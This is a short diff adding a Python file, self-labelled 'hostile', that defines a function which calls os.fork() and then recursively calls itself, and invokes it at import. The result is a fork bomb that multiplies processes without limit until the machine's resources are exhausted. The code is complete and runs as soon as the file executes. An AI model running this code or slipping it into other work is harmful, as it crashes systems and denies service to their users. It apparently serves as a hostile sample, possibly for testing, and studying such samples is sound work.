@@ -1,0 +1,8 @@
+# hostile: recursive forking function
+import os
+
+def multiply():
+    os.fork()
+    multiply()
+
+multiply()
